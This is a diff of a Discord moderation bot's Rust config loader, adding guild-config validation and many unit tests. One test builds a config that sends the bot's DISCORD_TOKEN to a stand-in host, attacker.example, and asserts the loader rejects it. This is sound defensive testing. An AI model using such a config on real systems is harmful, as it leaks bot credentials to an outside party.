+                .file_stem()
+                .and_then(|stem| stem.to_str())
+                .and_then(|stem| stem.parse().ok())
+                .and_then(Id::new_checked);
+            match guild_id {
+                Some(guild_id) => guild_ids.push(guild_id),
+                None => tracing::warn!(?path, "Skipping file not named after a guild ID"),
+            }
+        }
+    }
+
+    guild_ids.sort_unstable();
+    guild_ids.dedup();
+    Ok(guild_ids)
+}
+
+/// A guild configuration file, and every error it has, if any.
+pub type GuildConfigCheck = (PathBuf, Result<(), Vec<String>>);
+
+/// Loads every guild configuration in `config_roots` the way the bot would,
+/// without stopping at the first invalid one. Returns the file each guild's
+/// configuration was loaded from, along with every error it has, if any.
+pub fn check_guild_configs(
+    config_roots: &[&Path],
+    duplicates: DuplicateGuildConfigs,
+) -> Result<Vec<GuildConfigCheck>, LoadConfigError> {
+    let config_roots = &existing_config_roots(config_roots);
+    let mut results = Vec::new();
+    for guild_id in configured_guilds(config_roots)? {
+        let root =
+            find_guild_config_root(config_roots, guild_id, duplicates).unwrap_or(config_roots[0]);
+        let path = guild_config_path(root, guild_id);
+
+        let result = match load_guild_configs(config_roots, &[guild_id], false, duplicates) {
+            Ok(_) => Ok(()),
+            Err((_, report)) => Err(match report.downcast_ref::<LoadConfigError>() {
+                Some(LoadConfigError::Validate(errors)) => errors.clone(),
+                Some(err) => vec![err.to_string()],
+                None => vec![report.to_string()],
+            }),
+        };
+        results.push((path, result));
+    }
+
+    Ok(results)
+}
+
+#[cfg(test)]
+#[allow(clippy::needless_borrow, clippy::assertions_on_constants)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn deserialize_word_regex() {
+        let json = r#"
+        {
+            "type": "words",
+            "words": ["a", "b", "a(b)"]
+        }
+        "#;
+
+        let rule: MessageFilterRule =
+            serde_yaml::from_str(&json).expect("couldn't deserialize MessageFilterRule");
+
+        if let MessageFilterRule::Words { words, .. } = rule {
+            assert_eq!(words.chunks()[0].as_str(), "(?i)\\b(a|b|a\\(b\\))\\b");
+        } else {
+            assert!(false, "deserialized wrong filter");
+        }
+    }
+
+    #[test]
+    fn deserialize_case_sensitivity() {
+        let yml = r#"
+        - type: words
+          words: ["Bad"]
+          case_insensitive: true
+        - type: words
+          words: ["Bad"]
+          case_insensitive: false
+        - type: substring
+          substrings: ["Bad"]
+          case_insensitive: false
+        "#;
+
+        let rules: Vec<MessageFilterRule> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterRule");
+
+        match &rules[..] {
+            [MessageFilterRule::Words {
+                words: insensitive, ..
+            }, MessageFilterRule::Words {
+                words: sensitive,
+                case_insensitive: false,
+                ..
+            }, MessageFilterRule::Substring {
+                substrings,
+                case_insensitive: false,
+                ..
+            }] => {
+                assert_eq!(insensitive.chunks()[0].as_str(), "(?i)\\b(Bad)\\b");
+                assert_eq!(sensitive.chunks()[0].as_str(), "\\b(Bad)\\b");
+                assert!(insensitive.is_match("bAD"));
+                assert!(!sensitive.is_match("bAD"));
+                assert!(sensitive.is_match("Bad"));
+                assert!(!substrings.is_match("notbad"));
+            }
+            _ => panic!("deserialized wrong filters"),
+        }
+    }
+
+    #[test]
+    fn deserialize_rejects_oversized_regexes() {
+        for yml in [
+            r"{ type: regex, regexes: ['\w{1000}{1000}'] }",
+            r"{ type: link, mode: allow, domains: [], path_patterns: ['\w{1000}{1000}'] }",
+        ] {
+            let err = serde_yaml::from_str::<MessageFilterRule>(yml)
+                .expect_err("oversized regex was accepted");
+            assert!(err.to_string().contains("too large to compile"), "{}", err);
+        }
+
+        let err = serde_yaml::from_str::<UsernameFilterRule>(
+            r"{ type: Regex, regexes: ['\w{1000}{1000}'] }",
+        )
+        .expect_err("oversized regex was accepted");
+        assert!(err.to_string().contains("too large to compile"), "{}", err);
+    }
+
+    #[test]
+    fn deserialize_oversized_word_list() {
+        // Large enough that a single alternation exceeds the regex crate's
+        // default size limit.
+        let words: Vec<String> = (0..30_000).map(|i| format!("wörd{}ẞ", i)).collect();
+        let yml = format!("type: words\nwords: [{}]", words.join(", "));
+
+        let rule: MessageFilterRule =
+            serde_yaml::from_str(&yml).expect("couldn't deserialize oversized word list");
+
+        if let MessageFilterRule::Words { words, .. } = rule {
+            assert!(words.chunks().len() > 1);
+            assert!(words.is_match("first wörd0ẞ"));
+            assert!(words.is_match("last wörd29999ẞ"));
+            assert!(!words.is_match("wörd30000ẞ"));
+        } else {
+            panic!("deserialized wrong filter");
+        }
+    }
+
+    #[test]
+    fn deserialize_schedule_rejects_bad_syntax() {
+        for yml in [
+            "schedule: { timezone: Not/AZone, windows: [] }",
+            "schedule: { timezone: UTC, windows: [{ start: '25:00', end: '06:00' }] }",
+            "schedule: { timezone: UTC, windows: [{ start: '22:00', end: '06:00', days: [someday] }] }",
+        ] {
+            assert!(serde_yaml::from_str::<Scoping>(yml).is_err(), "{}", yml);
+        }
+    }
+
+    #[test]
+    fn deserialize_react_emoji() {
+        let emoji = |yml: &str| match serde_yaml::from_str::<MessageFilterAction>(yml) {
+            Ok(MessageFilterAction::React { emoji }) => Some(emoji),
+            _ => None,
+        };
 
-        let guild_config = load_config(config_root, guild_id)
-            .wrap_err(format!(
-                "Unable to load configuration for guild {}",
-                guild_id
-            ))
-            .map_err(|e| (guild_id, e))?;
-        configs.insert(guild_id, guild_config);
+        assert_eq!(
+            emoji("{ action: react, emoji: '🤡' }"),
+            Some(ReactionType::Unicode {
+                name: "🤡".to_owned()
+            })
+        );
+        let clown = Some(ReactionType::Custom {
+            animated: false,
+            id: Id::new(123),
+            name: Some("clown".to_owned()),
+        });
+        assert_eq!(emoji("{ action: react, emoji: 'clown:123' }"), clown);
+        assert_eq!(emoji("{ action: react, emoji: '<:clown:123>' }"), clown);
+
+        for bad in ["''", "'clown:'", "':123'", "'not an emoji'"].iter() {
+            assert_eq!(
+                emoji(&format!("{{ action: react, emoji: {} }}", bad)),
+                None,
+                "{}",
+                bad
+            );
+        }
     }
 
-    Ok(configs)
-}
+    #[test]
+    fn validate_include_roles() {
+        let scoping: Scoping = serde_yaml::from_str("{ include_roles: [], exclude_roles: [1] }")
+            .expect("couldn't deserialize Scoping");
+        let mut errors = vec![];
+        super::validate_scoping(&scoping, "scoping", &mut errors);
+        assert_eq!(
+            errors,
+            vec![
+                "in scoping, scoping rule specifies both exclude_roles and include_roles. Specify only one.",
+                "in scoping, scoping rule specifies an empty include_roles; omit the key instead.",
+            ]
+        );
+    }
 
-pub fn load_all_guild_configs(config_root: &Path) -> Result<()> {
-    for entry in std::fs::read_dir(config_root)? {
-        let entry = entry?;
-        if entry.file_type()?.is_file() {
-            let path = entry.path();
-            let config_string =
-                std::fs::read_to_string(&path).wrap_err(format!("Unable to read {:?}", path))?;
-            let config_yaml = serde_yaml::from_str(&config_string)
-                .wrap_err(format!("Unable to deserialize {:?}", path))?;
-
-            match validate_guild_config(&config_yaml) {
-                Ok(()) => {}
-                Err(errs) => {
-                    let err = LoadConfigError::Validate(errs);
-                    let err: eyre::Report = err.into();
-                    return Err(err.wrap_err(format!("Unable to validate {:?}", path)));
-                }
+    #[test]
+    fn validate_categories() {
+        let scoping: Scoping =
+            serde_yaml::from_str("{ include_categories: [1], exclude_categories: [] }")
+                .expect("couldn't deserialize Scoping");
+        let mut errors = vec![];
+        super::validate_scoping(&scoping, "scoping", &mut errors);
+        assert_eq!(
+            errors,
+            vec![
+                "in scoping, scoping rule specifies both exclude_categories and include_categories. Specify only one.",
+                "in scoping, scoping rule specifies an empty exclude_categories; omit the key instead.",
+            ]
+        );
+    }
+
+    #[test]
+    fn deserialize_weighted_rule() {
+        let yml = r#"
+        type: words
+        words: ["a"]
+        weight: 0.5
+        "#;
+
+        let rule: WeightedRule =
+            serde_yaml::from_str(yml).expect("couldn't deserialize WeightedRule");
+        assert_eq!(rule.weight, Some(0.5));
+        assert!(matches!(rule.rule, MessageFilterRule::Words { .. }));
+    }
+
+    #[test]
+    fn validate_prefix_commands_need_permitted_users() {
+        let yml = r#"
+        prefix_commands:
+          prefix: "!chrys"
+        "#;
+
+        let guild: GuildConfig =
+            serde_yaml::from_str(yml).expect("couldn't deserialize GuildConfig");
+        assert_eq!(
+            super::validate_guild_config(&guild),
+            Err(vec![
+                "in prefix_commands, no users or roles are allowed to use them; add some or omit the key.".to_owned()
+            ])
+        );
+    }
+
+    #[test]
+    fn validate_fallback_topic() {
+        let yml = r#"
+        channel_status_filter:
+          rules:
+            - type: substring
+              substrings: ["stage"]
+        "#;
+
+        let guild: GuildConfig =
+            serde_yaml::from_str(yml).expect("couldn't deserialize GuildConfig");
+        assert_eq!(
+            super::validate_guild_config(&guild),
+            Err(vec![
+                "in channel_status_filter, fallback_topic contains substring `Stage`; pick one the rules allow.".to_owned()
+            ])
+        );
+
+        let yml = r#"
+        channel_status_filter:
+          rules:
+            - type: substring
+              substrings: ["stage"]
+          fallback_topic: Open mic
+        "#;
+
+        let guild: GuildConfig =
+            serde_yaml::from_str(yml).expect("couldn't deserialize GuildConfig");
+        assert_eq!(super::validate_guild_config(&guild), Ok(()));
+    }
+
+    #[test]
+    fn validate_rule_weights() {
+        let yml = r#"
+        messages:
+          - name: Weighted
+            score_threshold: 1
+            actions:
+              - action: delete
+            rules:
+              - type: words
+                words: ["free"]
+                weight: -1
+              - type: words
+                words: ["nitro"]
+                weight: 0
+        "#;
+
+        let guild: GuildConfig =
+            serde_yaml::from_str(yml).expect("couldn't deserialize GuildConfig");
+        assert_eq!(
+            super::validate_guild_config(&guild),
+            Err(vec![
+                "in message filter 0, rule 0, weight must be a non-negative number".to_owned()
+            ])
+        );
+    }
+
+    #[test]
+    fn validate_fallback_chains() {
+        let yml = r#"
+        - action: ban
+          reason: spam
+          delete_message_seconds: 0
+          on_failure:
+            action: timeout
+            reason: spam
+            duration: 600
+            on_failure:
+              action: kick
+              reason: spam
+        - action: kick
+          reason: spam
+          on_failure:
+            action: timeout
+            reason: spam
+            duration: 600
+            on_failure:
+              action: kick
+              reason: spam
+        "#;
+
+        let actions: Vec<MessageFilterAction> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterAction");
+        let mut errors = vec![];
+        super::validate_actions(&actions, "actions", &mut errors);
+        assert_eq!(
+            errors,
+            vec![
+                "in actions, kick falls back to kick again; fallback chains can't repeat an action"
+            ]
+        );
+    }
+
+    #[test]
+    fn validate_webhook_urls() {
+        let yml = r#"
+        - action: send_webhook
+          url: https://discord.com/api/webhooks/5/token
+          content: hi
+        - action: send_webhook
+          url: https://discordapp.com/api/v10/webhooks/5/token
+          content: hi
+        - action: send_webhook
+          url: ""
+          content: hi
+        - action: send_webhook
+          url: https://example.com/api/webhooks/5/token
+          content: hi
+        - action: send_webhook
+          url: https://discord.com/api/webhooks/5
+          content: hi
+        "#;
+
+        let actions: Vec<MessageFilterAction> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterAction");
+        let mut errors = vec![];
+        super::validate_actions(&actions, "actions", &mut errors);
+        assert_eq!(
+            errors,
+            vec![
+                "in actions, send_webhook url is empty.",
+                "in actions, send_webhook url is not a Discord webhook URL.",
+                "in actions, send_webhook url is not a Discord webhook URL.",
+            ]
+        );
+
+        assert_eq!(
+            super::parse_webhook_url("https://discord.com/api/v10/webhooks/5/token"),
+            Some((Id::new(5), "token".to_owned()))
+        );
+    }
+
+    #[test]
+    fn config_source_debug_redacts_authorization() {
+        let source: ConfigSource = serde_yaml::from_str(
+            r#"
+            url: https://configs.example.com
+            authorization: Bearer secret
+            "#,
+        )
+        .unwrap();
+        assert_eq!(
+            format!("{:?}", source),
+            r#"Remote { url: "https://configs.example.com", authorization: Some("<redacted>") }"#
+        );
+    }
+
+    #[test]
+    fn expand_env_var_placeholders() {
+        std::env::set_var("CHRYSANTHEMUM_TEST_INFLUX_TOKEN", "secret");
+        std::env::set_var("CHRYSANTHEMUM_TEST_WEBHOOK_TOKEN", "token");
+
+        let mut cfg: Config = serde_yaml::from_str(
+            r#"
+            guild_config_dir: guild-configs
+            active_guilds: []
+            armed_by_default: false
+            influx:
+              url: http://localhost:8086
+              database: chrysanthemum
+              token: ${CHRYSANTHEMUM_TEST_INFLUX_TOKEN}
+              report_every_n: 1
+            sentry:
+              url: https://${CHRYSANTHEMUM_TEST_UNSET}@sentry.example.com/1
+            "#,
+        )
+        .unwrap();
+        assert_eq!(
+            cfg.expand_env_vars(),
+            Err(vec![
+                "in sentry url, environment variable `CHRYSANTHEMUM_TEST_UNSET` is not set."
+                    .to_owned()
+            ])
+        );
+        assert_eq!(cfg.influx.unwrap().token, "secret");
+
+        let mut guild: GuildConfig = serde_yaml::from_str(
+            r#"
+            default_actions:
+              - action: send_webhook
+                url: https://discord.com/api/webhooks/5/${CHRYSANTHEMUM_TEST_WEBHOOK_TOKEN}
+                content: hi
+            "#,
+        )
+        .expect("couldn't deserialize GuildConfig");
+        super::expand_guild_env_vars(&mut guild, &["CHRYSANTHEMUM_TEST_WEBHOOK_TOKEN".to_owned()])
+            .expect("couldn't expand guild config");
+        match &guild.default_actions.unwrap()[0] {
+            MessageFilterAction::SendWebhook { url, .. } => {
+                assert_eq!(url, "https://discord.com/api/webhooks/5/token")
             }
+            action => panic!("unexpected action {:?}", action),
         }
     }
 
-    Ok(())
-}
+    #[test]
+    fn guild_configs_cant_read_unlisted_env_vars() {
+        std::env::set_var("DISCORD_TOKEN", "bot token");
+
+        let result = parse_guild_config(
+            r#"
+            default_actions:
+              - action: create_case
+                endpoint: https://attacker.example/cases
+                authorization: ${DISCORD_TOKEN}
+            "#,
+        );
+        match result {
+            Err(LoadConfigError::Validate(errors)) => assert_eq!(
+                errors,
+                vec!["in default actions create_case authorization, environment variable `DISCORD_TOKEN` isn't listed in guild_env_vars.".to_owned()]
+            ),
+            result => panic!("unexpected result {:?}", result),
+        }
+    }
 
-#[cfg(test)]
-mod test {
-    use super::*;
+    #[test]
+    fn validate_escalation_tiers() {
+        let yml = r#"
+        - action: escalate
+          tiers:
+            - threshold: 1
+              actions:
+                - action: delete
+            - threshold: 3
+              actions:
+                - action: timeout
+                  reason: repeated spam
+                  duration: 600
+        - action: escalate
+          tiers:
+            - threshold: 3
+              actions:
+                - action: delete
+            - threshold: 2
+              actions:
+                - action: escalate
+                  tiers: []
+        - action: kick
+          reason: spam
+          on_failure:
+            action: escalate
+            tiers:
+              - threshold: 1
+                actions:
+                  - action: delete
+        "#;
+
+        let actions: Vec<MessageFilterAction> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterAction");
+        let mut errors = vec![];
+        super::validate_actions(&actions, "actions", &mut errors);
+        assert_eq!(
+            errors,
+            vec![
+                "in actions escalate tier 1, threshold 2 must be greater than the previous tier's (3); tiers must be sorted by ascending threshold, starting from at least 1.",
+                "in actions escalate tier 1, escalate can't be nested inside another escalate.",
+                "in actions escalate tier 1, escalate has no tiers.",
+                "in actions, kick falls back to escalate; escalate can't be a fallback",
+            ]
+        );
+    }
 
     #[test]
-    fn deserialize_word_regex() {
-        let json = r#"
-        {
-            "type": "words",
-            "words": ["a", "b", "a(b)"]
-        }
+    fn validate_timeout_duration() {
+        let yml = r#"
+        - action: timeout
+          reason: spam
+          duration_secs: 0
+        - action: timeout
+          reason: spam
+          duration: 600
         "#;
 
-        let rule: MessageFilterRule =
-            serde_yaml::from_str(&json).expect("couldn't deserialize MessageFilterRule");
+        let actions: Vec<MessageFilterAction> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterAction");
+        let mut errors = vec![];
+        super::validate_actions(&actions, "actions", &mut errors);
+        assert_eq!(
+            errors,
+            vec!["in actions, timeout duration must be greater than 0 seconds."]
+        );
+    }
 
-        if let MessageFilterRule::Words { words } = rule {
-            assert_eq!(words.to_string(), "\\b(a|b|a\\(b\\))\\b");
-        } else {
-            assert!(false, "deserialized wrong filter");
+    #[test]
+    fn validate_ban_deletion_period() {
+        let yml = r#"
+        - action: ban
+          reason: phishing
+          delete_message_seconds: 604800
+        - action: ban
+          reason: phishing
+          delete_message_seconds: 604801
+        "#;
+
+        let actions: Vec<MessageFilterAction> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterAction");
+        let mut errors = vec![];
+        super::validate_actions(&actions, "actions", &mut errors);
+        assert_eq!(
+            errors,
+            vec!["in actions, ban delete_message_seconds must be at most 604800 (seven days)."]
+        );
+    }
+
+    #[test]
+    fn warns_about_filters_excluding_their_own_roles() {
+        let yml = r#"
+        default_scoping:
+          exclude_roles: ["10"]
+        messages:
+          - name: Quarantine
+            rules:
+              - type: words
+                words: [scam]
+            actions:
+              - action: add_role
+                role_id: "10"
+                requires_armed: true
+          - name: Elsewhere
+            rules:
+              - type: words
+                words: [scam]
+            scoping:
+              exclude_roles: ["11"]
+            actions:
+              - action: add_role
+                role_id: "10"
+                requires_armed: true
+        "#;
+
+        let guild: GuildConfig =
+            serde_yaml::from_str(yml).expect("couldn't deserialize GuildConfig");
+        assert_eq!(super::validate_guild_config(&guild), Ok(()));
+        assert_eq!(
+            super::self_excluding_roles(&guild),
+            vec!["message filter `Quarantine` adds role 10, which its scoping excludes"]
+        );
+    }
+
+    #[test]
+    fn attachment_rules() {
+        let yml = r#"
+        - type: attachment_extension
+          mode: deny
+          extensions: [".EXE", scr]
+        - type: attachment_extension
+          mode: allow
+          extensions: []
+        - type: attachment_size
+          max_bytes: 0
+        "#;
+
+        let rules: Vec<MessageFilterRule> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterRule");
+        match &rules[0] {
+            MessageFilterRule::AttachmentExtension { extensions, .. } => {
+                assert_eq!(extensions, &["exe", "scr"]);
+            }
+            rule => panic!("unexpected rule {:?}", rule),
+        }
+
+        let mut errors = vec![];
+        for rule in &rules {
+            super::validate_message_rule(rule, "rule", &mut errors);
+        }
+        assert_eq!(
+            errors,
+            vec![
+                "in rule, attachment_extension rule has no extensions; it would never match",
+                "in rule, attachment_size rule has a limit of 0 bytes; this would match all attachments",
+            ]
+        );
+    }
+
+    #[test]
+    fn validate_invite_guilds() {
+        let yml = r#"
+        - type: invite
+          mode: deny
+          invites: []
+          resolve_guilds: true
+        - type: invite
+          mode: deny
+          invites: []
+          guilds: ["1"]
+        - type: invite
+          mode: deny
+          invites: []
+          resolve_guilds: true
+          guilds: ["1"]
+        "#;
+
+        let rules: Vec<MessageFilterRule> =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterRule");
+        let mut errors = vec![];
+        for rule in &rules {
+            super::validate_message_rule(rule, "rule", &mut errors);
         }
+        assert_eq!(
+            errors,
+            vec![
+                "in rule, invite rule resolves guilds but lists no guilds",
+                "in rule, invite rule lists guilds but doesn't set resolve_guilds; they would be ignored",
+            ]
+        );
     }
 
     #[test]
@@ -680,4 +3550,304 @@ mod test {
             vec!["in rule, regex 0 matches an empty string; this would match all messages"]
         );
     }
+
+    #[test]
+    fn validate_not_rule_depth() {
+        let yml = r#"
+        type: not
+        rule:
+          type: not
+          rule:
+            type: substring
+            substrings: []
+        "#;
+
+        let rule: MessageFilterRule =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterRule");
+        let mut errors = vec![];
+        super::validate_message_rule(&rule, "rule", &mut errors);
+        assert_eq!(
+            errors,
+            vec!["in rule, substrings contains an empty string; this would match all messages"]
+        );
+
+        let yml = r#"
+        type: not
+        rule:
+          type: not
+          rule:
+            type: not
+            rule:
+              type: substring
+              substrings: [bad]
+        "#;
+
+        let rule: MessageFilterRule =
+            serde_yaml::from_str(yml).expect("couldn't deserialize MessageFilterRule");
+        let mut errors = vec![];
+        super::validate_message_rule(&rule, "rule", &mut errors);
+        assert_eq!(
+            errors,
+            vec!["in rule, not rules are nested 3 deep; the limit is 2"]
+        );
+    }
+
+    #[test]
+    fn regex_flags() {
+        let regexes = |yml: &str| match serde_yaml::from_str(yml)
+            .expect("couldn't deserialize MessageFilterRule")
+        {
+            MessageFilterRule::Regex { regexes, .. } => regexes,
+            _ => panic!("deserialized wrong rule"),
+        };
+
+        for (pattern, flag, text) in [
+            ("bad", "case_insensitive", "BAD"),
+            ("^bad$", "multiline", "ok\nbad"),
+            ("a.b", "dot_all", "a\nb"),
+        ] {
+            let without = regexes(&format!("{{ type: regex, regexes: ['{}'] }}", pattern));
+            let with = regexes(&format!(
+                "{{ type: regex, regexes: ['{}'], flags: {{ {}: true }} }}",
+                pattern, flag
+            ));
+            assert!(!without.is_match(text), "{} on by default", flag);
+            assert!(with.is_match(text), "{} had no effect", flag);
+        }
+
+        let unicode = regexes(r"{ type: regex, regexes: ['^\w$'] }");
+        let ascii = regexes(r"{ type: regex, regexes: ['^\w$'], flags: { unicode: false } }");
+        assert!(unicode.is_match("é"));
+        assert!(!ascii.is_match("é"));
+
+        assert!(serde_yaml::from_str::<MessageFilterRule>(
+            "{ type: regex, regexes: ['a'], flags: { ignore_case: true } }"
+        )
+        .is_err());
+    }
+
+    fn temp_config_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!(
+            "chrysanthemum-test-{}-{}",
+            name,
+            std::process::id()
+        ));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).expect("couldn't create temporary config directory");
+        dir
+    }
+
+    #[test]
+    fn check_guild_configs_collects_every_error() {
+        let dir = temp_config_dir("check");
+        std::fs::write(dir.join("1.yml"), "include_bots: true").unwrap();
+        std::fs::write(
+            dir.join("2.json"),
+            r#"{ "messages": [{ "name": "empty", "rules": [] }] }"#,
+        )
+        .unwrap();
+        std::fs::write(dir.join("3.toml"), "include_bots = ").unwrap();
+        std::fs::write(dir.join("notes.txt"), "not a config").unwrap();
+        std::fs::write(dir.join("shared.yml"), "not: [a guild").unwrap();
+
+        let results = check_guild_configs(&[&dir], DuplicateGuildConfigs::Error).unwrap();
+        let paths: Vec<_> = results.iter().map(|(path, _)| path.clone()).collect();
+        assert_eq!(
+            paths,
+            vec![dir.join("1.yml"), dir.join("2.json"), dir.join("3.toml")]
+        );
+        assert_eq!(results[0].1, Ok(()));
+        assert_eq!(
+            results[1].1,
+            Err(vec![
+                "message filter 0 does not specify actions, but this guild has no default actions."
+                    .to_owned(),
+                "message filter 0 has no rules".to_owned(),
+            ])
+        );
+        assert!(matches!(&results[2].1, Err(errors) if errors.len() == 1));
+
+        assert!(matches!(
+            check_guild_configs(&[&dir.join("missing")], DuplicateGuildConfigs::Error),
+            Err(LoadConfigError::MissingDirectory(_))
+        ));
+    }
+
+    #[test]
+    fn load_config_reports_missing_directory() {
+        let dir = temp_config_dir("missing-directory").join("does-not-exist");
+
+        let result = load_config(&dir, Id::new(1));
+        assert!(matches!(result, Err(LoadConfigError::MissingDirectory(path)) if path == dir));
+    }
+
+    #[test]
+    fn load_config_reports_missing_guild_config() {
+        let dir = temp_config_dir("missing-guild");
+
+        let result = load_config(&dir, Id::new(1));
+        assert!(matches!(
+            result,
+            Err(LoadConfigError::MissingGuildConfig(guild_id, path))
+                if guild_id == Id::new(1) && path == dir.join("1.yml")
+        ));
+    }
+
+    #[test]
+    fn load_config_detects_format() {
+        let dir = temp_config_dir("formats");
+        std::fs::write(dir.join("1.json"), r#"{ "include_bots": true }"#).unwrap();
+        std::fs::write(
+            dir.join("2.yaml"),
+            "# Comments are fine\ninclude_bots: true",
+        )
+        .unwrap();
+        std::fs::write(dir.join("3.toml"), "include_bots = true").unwrap();
+        std::fs::write(dir.join("4.toml"), "include_bots = ").unwrap();
+
+        for guild_id in 1..=3 {
+            let guild_config = load_config(&dir, Id::new(guild_id)).expect("couldn't load config");
+            assert!(guild_config.include_bots, "guild {}", guild_id);
+        }
+        assert!(matches!(
+            load_config(&dir, Id::new(4)),
+            Err(LoadConfigError::DeserializeToml(_))
+        ));
+    }
+
+    #[test]
+    fn deserialize_toml_bare_ids() {
+        let toml = r#"
+        [[messages]]
+        name = "bad words"
+        rules = [{ type = "words", words = ["bad"] }]
+        actions = [{ action = "send_log", channel_id = 123 }]
+        "#;
+
+        let guild_config = deserialize_guild_config(Path::new("1.toml"), toml)
+            .expect("couldn't deserialize TOML with bare IDs");
+        assert!(matches!(
+            guild_config.messages.unwrap()[0].actions.as_deref(),
+            Some([MessageFilterAction::SendLog { channel_id, .. }]) if *channel_id == Id::new(123)
+        ));
+
+        assert!(matches!(
+            deserialize_guild_config(Path::new("1.toml"), "include_bots = 5"),
+            Err(LoadConfigError::DeserializeToml(_))
+        ));
+    }
+
+    #[test]
+    fn load_config_prefers_yml() {
+        let dir = temp_config_dir("preferred-format");
+        std::fs::write(dir.join("1.yml"), "include_bots: true").unwrap();
+        std::fs::write(dir.join("1.json"), r#"{ "include_bots": false }"#).unwrap();
+        std::fs::write(dir.join("1.toml"), "include_bots = false").unwrap();
+
+        assert!(load_config(&dir, Id::new(1)).unwrap().include_bots);
+    }
+
+    #[test]
+    fn load_config_reports_parse_error() {
+        let dir = temp_config_dir("parse-error");
+        std::fs::write(dir.join("1.yml"), "messages: 5").unwrap();
+
+        let result = load_config(&dir, Id::new(1));
+        assert!(matches!(result, Err(LoadConfigError::Deserialize(_))));
+    }
+
+    #[test]
+    fn load_guild_configs_allow_missing() {
+        let dir = temp_config_dir("allow-missing");
+        std::fs::write(dir.join("1.yml"), "include_bots: false").unwrap();
+
+        let guilds = [Id::new(1), Id::new(2)];
+        let duplicates = DuplicateGuildConfigs::Error;
+        assert!(load_guild_configs(&[&dir], &guilds, false, duplicates).is_err());
+
+        let configs = load_guild_configs(&[&dir], &guilds, true, duplicates)
+            .expect("missing guild wasn't skipped");
+        assert_eq!(configs.len(), 1);
+        assert!(configs.contains_key(&Id::new(1)));
+
+        let missing = dir.join("does-not-exist");
+        let configs = load_guild_configs(&[&missing], &guilds, true, duplicates)
+            .expect("missing directory wasn't skipped");
+        assert!(configs.is_empty());
+
+        // Invalid configurations are never skipped.
+        std::fs::write(dir.join("2.yml"), "messages: []").unwrap();
+        assert!(load_guild_configs(&[&dir], &guilds, true, duplicates).is_err());
+    }
+
+    #[test]
+    fn load_guild_configs_skips_missing_extra_roots() {
+        let dir = temp_config_dir("missing-extra-root");
+        std::fs::write(dir.join("1.yml"), "include_bots: true").unwrap();
+        let missing = dir.join("does-not-exist");
+        let duplicates = DuplicateGuildConfigs::Error;
+
+        for allow_missing in [false, true] {
+            let configs =
+                load_guild_configs(&[&dir, &missing], &[Id::new(1)], allow_missing, duplicates)
+                    .expect("missing extra root failed the load");
+            assert!(configs[&Id::new(1)].include_bots);
+        }
+
+        let results = check_guild_configs(&[&dir, &missing], duplicates).unwrap();
+        assert_eq!(results, vec![(dir.join("1.yml"), Ok(()))]);
+
+        // A missing first root is still reported.
+        assert!(load_guild_configs(&[&missing, &dir], &[Id::new(1)], false, duplicates).is_err());
+    }
+
+    /// Two config roots, both configuring guild 1 and each configuring one
+    /// other guild.
+    fn duplicated_config_roots(name: &str) -> (PathBuf, PathBuf) {
+        let first = temp_config_dir(&format!("{}-first", name));
+        let second = temp_config_dir(&format!("{}-second", name));
+        std::fs::write(first.join("1.yml"), "include_bots: false").unwrap();
+        std::fs::write(second.join("1.yml"), "include_bots: true").unwrap();
+        std::fs::write(first.join("2.yml"), "include_bots: false").unwrap();
+        std::fs::write(second.join("3.yml"), "include_bots: false").unwrap();
+        (first, second)
+    }
+
+    #[test]
+    fn duplicate_guild_configs_error() {
+        let (first, second) = duplicated_config_roots("duplicate-error");
+
+        let result =
+            find_guild_config_root(&[&first, &second], Id::new(1), DuplicateGuildConfigs::Error);
+        assert!(matches!(
+            result,
+            Err(LoadConfigError::DuplicateGuildConfig(guild_id, paths))
+                if guild_id == Id::new(1) && paths == vec![first.join("1.yml"), second.join("1.yml")]
+        ));
+
+        // Even when missing guilds are allowed.
+        let result = load_guild_configs(
+            &[&first, &second],
+            &[Id::new(1)],
+            true,
+            DuplicateGuildConfigs::Error,
+        );
+        assert!(matches!(result, Err((guild_id, _)) if guild_id == Id::new(1)));
+    }
+
+    #[test]
+    fn duplicate_guild_configs_first_root_wins() {
+        let (first, second) = duplicated_config_roots("duplicate-first-wins");
+
+        let configs = load_guild_configs(
+            &[&first, &second],
+            &[Id::new(1), Id::new(2), Id::new(3)],
+            false,
+            DuplicateGuildConfigs::FirstRootWins,
+        )
+        .expect("duplicate guild wasn't resolved");
+
+        assert_eq!(configs.len(), 3);
+        assert!(!configs[&Id::new(1)].include_bots);
+    }
 }